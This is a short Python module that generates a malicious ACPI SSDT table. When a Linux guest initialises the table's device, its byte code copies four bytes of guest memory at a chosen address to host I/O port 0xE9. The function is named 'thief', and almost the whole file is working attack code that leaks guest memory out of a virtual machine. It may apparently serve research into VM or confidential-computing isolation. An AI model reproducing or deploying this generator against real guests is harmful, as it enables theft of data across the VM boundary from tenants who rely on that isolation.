"""A host's ACPI table whose byte code copies memory of the guest to a port of the host (ACPI 6.5, section 20.2)."""

import struct

SYSTEM_MEMORY, SYSTEM_IO = 0, 1
PORT = 0xE9
WORD = 4


def thief(address: int) -> bytes:
    """Make a table (SSDT) with a device that, when Linux starts it, writes four bytes of memory to ``PORT``."""
    fields = [f"MEM{place}" for place in range(WORD)]
    method = b"".join(b"\x70" + name.encode() + b"OUT_" for name in fields)  # Store (MEMn, OUT)
    device = b"QTRY" + b"\x08_HID\x0dQTRY0001\0" + b"\x14" + _sized(b"_INI\0" + method)
    body = _region(b"MEMO", SYSTEM_MEMORY, address, WORD) + _fields(b"MEMO", fields)
    body += _region(b"PORT", SYSTEM_IO, PORT, 1) + _fields(b"PORT", ["OUT_"])
    return _table(b"\x10" + _sized(b"\\_SB_" + body + b"\x5b\x82" + _sized(device)))


def _region(name: bytes, space: int, address: int, length: int) -> bytes:
    return b"\x5b\x80" + name + bytes([space]) + b"\x0c" + struct.pack("<I", address) + bytes([0x0A, length])


def _fields(region: bytes, names: list[str]) -> bytes:
    units = b"".join(name.encode() + b"\x08" for name in names)  # 8 bits each, accessed as bytes
    return b"\x5b\x81" + _sized(region + b"\x01" + units)


def _sized(data: bytes) -> bytes:
    """Put a PkgLength before data: one byte up to 63, two beyond."""
    if len(data) + 1 < 64:
        return bytes([len(data) + 1]) + data
    length = len(data) + 2
    return bytes([0x40 | length & 0xF, length >> 4]) + data


def _table(body: bytes) -> bytes:
    head = struct.pack("<4sIBB6s8sI4sI", b"SSDT", 36 + len(body), 2, 0, b"QUOTRY", b"THIEF   ", 1, b"TEST", 1)
    table = head + body
    return table[:9] + bytes([-sum(table) & 0xFF]) + table[10:]
